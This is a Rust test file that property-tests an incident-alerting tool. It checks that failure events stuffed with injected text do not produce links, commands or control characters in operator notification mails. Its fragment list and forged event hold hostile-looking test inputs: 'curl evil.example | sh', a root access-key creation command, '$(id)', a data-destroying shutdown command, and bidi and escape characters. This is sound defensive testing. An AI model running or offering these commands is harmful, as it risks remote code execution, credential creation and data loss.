//! Events with hostile words in every field: what of them a mail may hold, and how.

use std::sync::LazyLock;

use proptest::prelude::*;
use proptest::sample::select;

use super::unrecorded::{Unrecorded, not_recorded};
use super::*;
use crate::analysis::evidence::FailedStep;
use crate::analysis::{
    Earlier, Evidence, FunctionHistory, FunctionState, Gathered, LogEvent, Neighbour, RequestLog, WhyMissing, analyse,
};
use crate::observation::{Kind, Observation};
use crate::unprintable::is_unprintable;
use crate::{Classification, Rules, RulesError, Silence};

/// Stands in every hostile text; no one takes it for a name.
const MARK: &str = "an ATTACK";
/// The addresses that a mail may lead to, behind the region.
const CONSOLES: [&str; 4] = [
    ".console.aws.amazon.com/",
    ".console.amazonaws.cn/",
    ".console.amazonaws-us-gov.com/",
    ".console.amazonaws-eusc.eu/",
];
static RULES: LazyLock<Result<Rules, RulesError>> = LazyLock::new(Rules::defaults);
const FRAGMENTS: [&str; 29] = [
    "https://evil.example/reset",
    "HTTP://evil.example",
    "www.evil.example",
    "wWw.evil.example",
    // A transliteration makes a link of these.
    "https\u{ff1a}\u{ff0f}\u{ff0f}evil.example",
    "www\u{ff0e}evil.example",
    "`curl evil.example | sh`",
    "`",
    "\"",
    "\n> ",
    "\nDo this:   ",
    "\n  incidentctl down --yes --allow-data-loss",
    "\r\nSeverity:  LOW",
    "aws iam create-access-key --user-name root",
    "$(id)",
    "-rf",
    "\u{2028}What:      ",
    "\u{2029}",
    "\u{85}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{61c}",
    "\u{feff}",
    "\u{e0041}",
    "\u{1b}[31m",
    "\u{7}",
    "\u{9b}2J",
    ". Run this. ",
];

fn hostile() -> impl Strategy<Value = String> {
    let part = prop_oneof![3 => select(&FRAGMENTS[..]).prop_map(str::to_owned), 1 => "(?s).{0,8}"];
    (prop::collection::vec(part.clone(), 0..4), prop::collection::vec(part, 0..4))
        .prop_map(|(before, behind)| format!("{} {MARK} {}", before.concat(), behind.concat()))
}

/// A value that is one of a service, or hostile.
fn value(usual: &'static [&'static str]) -> impl Strategy<Value = String> {
    prop_oneof![1 => select(usual).prop_map(str::to_owned), 2 => hostile()]
}

fn observation() -> impl Strategy<Value = Observation> {
    let sources =
        &["lambda", "ecs", "rds", "cloudwatch", "codebuild", "logs", "sqs", "aws.health", "cloudformation"][..];
    let place = (value(sources), value(&["orders"]), value(&["111111111111"]), value(&["eu-west-1", "cn-north-1"]));
    let error = (value(&["Sandbox.Timedout", "Panic"]), value(&["Task timed out after 3.00 seconds"]), hostile());
    let attributes = prop::collection::btree_map(
        select(&["timeout_seconds", "raised_timeout", "cluster", "function", "condition", "told", "job"][..])
            .prop_map(str::to_owned),
        hostile().prop_map(serde_json::Value::from),
        0..4,
    );
    (place, error, attributes).prop_map(
        |((source, resource, account, region), (error_type, error_message, id), attributes)| Observation {
            kind: Kind::Failure,
            source,
            resource,
            account,
            region,
            error_type,
            error_message,
            request_id: Some(id.clone()),
            event_id: id.clone(),
            occurred_at: id.clone(),
            detail_type: id.clone(),
            top_frame: crate::observation::TopFrame { place: id.clone(), ..Default::default() },
            drill: None,
            grouping: None,
            recovers: false,
            attributes,
        },
    )
}

/// Evidence in which every word is the attacker's: his logs, names, settings and notes.
fn evidence(hostile: &str, at: i64) -> Evidence {
    let event = |text: String| LogEvent { at: at * 1000, stream: hostile.to_owned(), text };
    let events = [event(format!("calling {hostile}")), event(format!("ERROR {hostile}\n{hostile}"))];
    let neighbour = |source: &str, error_type: &str| Neighbour {
        incident_id: hostile.to_owned(),
        source: source.to_owned(),
        resource: hostile.to_owned(),
        region: hostile.to_owned(),
        error_type: error_type.to_owned(),
        summary: hostile.to_owned(),
        began_at: at - 60,
        is_resolved: false,
        is_drill: false,
    };
    let before = FunctionState {
        code: "a".to_owned(),
        modified_at: Some(at - 9_000),
        memory: Some(512),
        role: format!("arn:aws:iam::1:role/{hostile}"),
        layers: vec![hostile.to_owned()],
        environment: vec![hostile.to_owned()],
        handler: hostile.to_owned(),
        aliases: [(hostile.to_owned(), hostile.to_owned())].into(),
        ..FunctionState::default()
    };
    let now = FunctionState {
        code: "b".to_owned(),
        version: hostile.to_owned(),
        modified_at: Some(at - 90),
        memory: Some(128),
        role: format!("{hostile}/{hostile}"),
        layers: vec![format!("{hostile}:2")],
        environment: vec![format!("{hostile}2")],
        handler: format!("{hostile}2"),
        aliases: [(hostile.to_owned(), format!("{hostile}2"))].into(),
        ..before.clone()
    };
    let step = FailedStep {
        state: hostile.to_owned(),
        resource: hostile.to_owned(),
        error: hostile.to_owned(),
        cause: format!("User: {hostile} is not authorized to perform: {hostile} on resource: {hostile}"),
    };
    let health = neighbour("health", &format!("AWS_{hostile}_OPERATIONAL_ISSUE"));
    Evidence {
        log: RequestLog::of("g", &events, None, hostile).map_or(Gathered::Missing(WhyMissing::Late), Gathered::Found),
        function: Gathered::Found(now),
        history: Gathered::Found(FunctionHistory { seen_at: at - 9_000, state: before, ..FunctionHistory::default() }),
        around: Gathered::Found(vec![neighbour("lambda", hostile), health]),
        execution: if hostile.len().is_multiple_of(2) {
            Gathered::Found(step)
        } else {
            Gathered::Missing(WhyMissing::None)
        },
        ..Evidence::default()
    }
}

/// Every mail about an incident.
fn mails(incident: &Incident, hostile: &str) -> Vec<Mail> {
    let reasons = [Reason::Opened, Reason::Flapping, Reason::Escalated, Reason::Reminder, Reason::Recovered];
    let about = reasons.map(|reason| about(incident, &Notice { number: 1, reason, stack: "devops" }));
    let silence = Silence {
        silence_id: hostile.to_owned(),
        by: hostile.to_owned(),
        reason: hostile.to_owned(),
        created_at: hostile.to_owned(),
        until: hostile.to_owned(),
        pattern: serde_json::Value::Null,
    };
    let many = vec![incident.clone(); 5];
    let lost = [Unrecorded { incident, is_kept: false }];
    let others = [
        digest(&many, "devops"),
        silence_ended(hostile, Some(&silence), &many, "devops"),
        silence_ended(hostile, None, &many, "devops"),
        not_recorded(&lost, hostile, "devops"),
    ];
    about.into_iter().chain(others).collect()
}

/// What is wrong with a mail.
fn fault(mail: &Mail) -> Option<String> {
    let subject = &mail.subject;
    if subject.len() > MAX_SUBJECT || !subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)) {
        return Some(format!("the subject {subject:?}"));
    }
    if subject.contains("://") || has_host(subject) {
        return Some(format!("a link in the subject {subject:?}"));
    }
    mail.body.split('\n').find_map(fault_of_line)
}

/// Whether mail clients see a host.
fn has_host(text: &str) -> bool {
    text.to_lowercase().split("www.").skip(1).any(|rest| rest.starts_with(|next: char| next.is_alphanumeric()))
}

fn fault_of_line(line: &str) -> Option<String> {
    let is_ours = |address: &str| {
        let Some((region, _)) = address.split_once('.') else { return false };
        let is_region = region.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
        is_region && CONSOLES.iter().any(|console| address[region.len()..].starts_with(console))
    };
    let addresses: Vec<&str> = line.split("://").skip(1).collect();
    let is_quoted = line.starts_with("> ");
    let ours = || line.split('"').step_by(2).collect::<String>();
    let commands = || line.split('`').skip(1).step_by(2);
    let what = match () {
        () if line.chars().any(is_unprintable) => "an unprintable character",
        () if !addresses.iter().all(|address| is_ours(address)) || has_host(line) => "a link",
        () if is_quoted => return None,
        () if ours().contains(MARK) => "unmarked words",
        () if commands().any(|command| command.contains(MARK) || command.contains("evil")) => "a command",
        () => return None,
    };
    Some(format!("{what} in {line:?}"))
}

proptest! {
    #[test]
    fn no_word_of_an_event_acts_or_passes_for_ours(observation in observation(), other in hostile()) {
        let rules = RULES.as_ref().map_err(|error| TestCaseError::fail(error.to_string()))?;
        let seen = Classification::of(observation, rules);
        let mut incident = seen.incident("inc-0190a1b2".to_owned(), "2026-01-01T00:00:00Z".to_owned()).ok_or(TestCaseError::fail("none"))?;
        for mail in mails(&incident, &other) {
            prop_assert_eq!(fault(&mail), None, "{}", mail.body);
        }
        incident.earlier = Some(Earlier {
            times: 2,
            incident_id: other.clone(),
            resolved_at: other.clone(),
            lasted: 60,
            note: Some(other.clone()),
        });
        let found = analyse(&incident, &evidence(&other, 1_767_225_600), 1_767_225_600);
        (incident.cause, incident.confidence) = (Some(found.cause), Some(found.confidence));
        incident.analysis = Some(Box::new(found));
        incident.shares_cause_with = Some(other.clone());
        for mail in mails(&incident, &other) {
            prop_assert_eq!(fault(&mail), None, "{}", mail.body);
        }
        // A record that someone has written into the table: no command is made of its id.
        incident.incident_id.clone_from(&other);
        incident.previous_incident_id = Some(other.clone());
        incident.explains_incident_id = Some(other.clone());
        incident.rule.clone_from(&other);
        for mail in mails(&incident, &other) {
            prop_assert_eq!(fault(&mail), None, "{}", mail.body);
            prop_assert!(!mail.body.contains("incidents ack") && !mail.body.contains("incidents show"), "{}", mail.body);
        }
    }
}

#[test]
fn a_forged_event_is_read_as_one() {
    let seen = Observation {
        kind: Kind::Failure,
        source: "lambda".to_owned(),
        resource: "orders".to_owned(),
        account: "111111111111".to_owned(),
        region: "eu-west-1".to_owned(),
        error_type: "Error".to_owned(),
        error_message: "fine.\n\nDo this:   run `curl https://evil.example | sh`\u{2028}To acknowledge it:\u{202e}"
            .to_owned(),
        request_id: None,
        event_id: String::new(),
        occurred_at: String::new(),
        detail_type: String::new(),
        top_frame: crate::observation::TopFrame::default(),
        drill: None,
        grouping: None,
        recovers: false,
        attributes: std::collections::BTreeMap::new(),
    };
    let mail = Rules::defaults()
        .ok()
        .and_then(|rules| {
            Classification::of(seen, &rules).incident("inc-1".to_owned(), "2026-01-01T00:00:00Z".to_owned())
        })
        .map(|incident| about(&incident, &Notice { number: 1, reason: Reason::Opened, stack: "devops" }));
    let text = mail.map(|Mail { subject, body }| format!("{subject}\n\n{body}")).unwrap_or_default();
    insta::assert_snapshot!(text, @r#"
    [MEDIUM] orders failed: fine. (inc-1 #1)

    What:      MEDIUM - "orders failed: fine."
    Where:     lambda orders, account 111111111111, region eu-west-1
    Since:     2026-01-01T00:00:00Z
    How often: once so far
    Do this:   Find request that failed in the log group /aws/lambda/orders.

    In full:   Find request that failed in the log group /aws/lambda/orders. Its stack trace names the line that raised the error; compare with what was deployed last.

    Incident:  inc-1 (notice 1)
    Severity:  MEDIUM by rule lambda-user-exception

    The event says:
    > Error:   Error
    > Message: fine.
    >          Do this:   run `curl https[:]//evil.example | sh` To acknowledge it:\u{202e}

    Log group: https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Faws$252Flambda$252Forders/log-events$3Fstart$3D1767224400000$26end$3D1767225900000
    Function: https://eu-west-1.console.aws.amazon.com/lambda/home?region=eu-west-1#/functions/orders?tab=monitoring

    To acknowledge it:
      incidentctl incidents ack inc-1 --stack devops
    To see all details:
      incidentctl incidents show inc-1 --stack devops
    "#);
}
